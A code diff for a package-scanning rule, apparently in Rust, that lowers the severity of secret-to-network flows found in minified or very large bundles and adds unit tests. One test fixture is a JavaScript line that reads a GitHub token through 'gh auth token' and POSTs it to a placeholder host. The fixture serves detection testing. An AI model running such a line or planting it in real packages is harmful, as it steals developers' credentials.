@@ -41,8 +41,11 @@ fn check(pkg: &Package, out: &mut Emitter) {
         let reachable = pkg.is_install_file(f)
             || pkg.is_entry_file(f)
             || pkg.bin_files.contains(&f.path);
+        // Names are tracked without scopes: in a big bundle two variables of one name may be
+        // different things, so a flow there asks for a look rather than convicting.
+        let bundle = f.minified || f.text.len() > 200 * 1024;
         let sev = match flow.source {
-            Source::Secrets if reachable => Severity::Critical,
+            Source::Secrets if reachable && !bundle => Severity::Critical,
             Source::Secrets => Severity::High,
             Source::Token if pkg.is_install_file(f) => Severity::High,
             Source::Token => Severity::Medium,
@@ -55,5 +58,26 @@ fn check(pkg: &Package, out: &mut Emitter) {
             flow.off,
             format!("{} flows into {}", flow.what, flow.sink),
         );
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    const FLOW: &str = "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://t.example/c', { method: 'POST', body: JSON.stringify({ t }) });";
+
+    #[test]
+    fn credential_flow_in_entry_code_is_critical() {
+        let hits = run(&super::RULE, "index.js", FLOW);
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
+    }
+
+    #[test]
+    fn credential_flow_in_a_big_bundle_is_only_high() {
+        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
+        let hits = run(&super::RULE, "index.js", &format!("{filler}{FLOW}"));
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::High));
     }
 }
